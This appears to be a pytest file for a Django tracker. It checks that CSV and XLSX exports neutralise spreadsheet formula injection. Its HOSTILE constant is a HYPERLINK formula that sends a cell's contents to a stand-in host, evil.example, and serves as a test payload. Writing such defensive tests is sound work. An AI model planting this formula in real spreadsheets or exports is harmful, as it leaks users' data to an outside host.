"""A text that begins like a formula (``=HYPERLINK(...)``, ``+1``, ``-2``, ``@SUM``, a tab, a carriage return) is
never live in a file the tracker writes: quoted in CSV (OWASP), a string cell in XLSX."""

import csv
import io
import json

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from rest_framework.test import APIClient

from tests.factories import CommitmentFactory, ParagraphFactory, with_owners
from tracker.data_package import export_package
from tracker.spreadsheets import SafeCSV, SafeXLSX, csv_cell, csv_row, xlsx_bytes

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("text", [HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_formula_like_text_is_quoted_in_csv(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["We will clear", "", " =1", "'=1", 5, -5, 1.5, None])
def test_other_values_are_left_as_they_are(value):
    assert csv_cell(value) == value


def test_an_xlsx_sheet_holds_formula_like_texts_as_strings():
    workbook = load_workbook(io.BytesIO(xlsx_bytes("t", ["text", "n"], [[HOSTILE, -5], ["+1", 2]])))
    cells = list(workbook.active.iter_rows(min_row=2, values_only=False))
    assert [(cell.value, cell.data_type) for cell in cells[0]] == [(HOSTILE, "s"), (-5, "n")]
    assert (cells[1][0].value, cells[1][0].data_type) == ("+1", "s")


@pytest.fixture
def hostile_commitment(db, mexico):
    return with_owners(CommitmentFactory(paragraph=ParagraphFactory(text=HOSTILE), text=HOSTILE), mexico)


def test_the_public_csv_export_quotes_the_formula(hostile_commitment):
    response = APIClient().get("/api/v1/commitments/export/", {"format": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    column = rows[0].index("text")
    assert rows[1][column] == "'" + HOSTILE


def test_the_public_xlsx_export_writes_the_formula_as_text(hostile_commitment):
    response = APIClient().get("/api/v1/commitments/export/", {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("text") + 1)
    assert (cell.value, cell.data_type) == (HOSTILE, "s")


@pytest.mark.parametrize("file_format", [SafeCSV, SafeXLSX])
def test_the_admin_export_formats_are_the_safe_ones(settings, file_format):
    assert file_format in settings.EXPORT_FORMATS


def test_the_admin_csv_export_quotes_the_formula(staff_client, hostile_commitment):
    response = staff_client.post(
        reverse("admin:commitments_commitment_export"),
        {"format": "0", "resource": "0", **{f"commitmentresource_{name}": "on" for name in ("id", "text")}},
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert "'" + HOSTILE in rows[1]


def test_the_admin_xlsx_export_writes_the_formula_as_text(staff_client, hostile_commitment):
    response = staff_client.post(
        reverse("admin:commitments_commitment_export"),
        {"format": "1", "resource": "0", **{f"commitmentresource_{name}": "on" for name in ("id", "text")}},
    )
    cells = [cell for row in load_workbook(io.BytesIO(response.content)).active.iter_rows() for cell in row]
    assert [(cell.value, cell.data_type) for cell in cells if cell.value == HOSTILE] == [(HOSTILE, "s")]


def test_the_data_package_csv_is_quoted_and_its_json_restores_the_text(hostile_commitment, tmp_path):
    export_package(tmp_path)
    table = (tmp_path / "commitments.Commitment.csv").read_text()
    assert csv_row([HOSTILE]) == ["'" + HOSTILE] and "'" + HOSTILE.replace('"', '""') in table
    records = json.loads((tmp_path / "commitments.Commitment.json").read_text())
    assert records[0]["fields"]["text"] == HOSTILE


def test_the_obligations_csv_quotes_formula_like_cells():
    from commitments.api.obligations import ObligationSerializer, _csv

    columns = [name for name in ObligationSerializer.Meta.fields if name != "extensions"]
    row = {name: "@cmd" for name in columns} | {"state": {"code": "=MEX"}}
    line = list(csv.reader(io.StringIO(_csv([row]))))[1]
    assert set(line) == {"'@cmd", "'=MEX"}
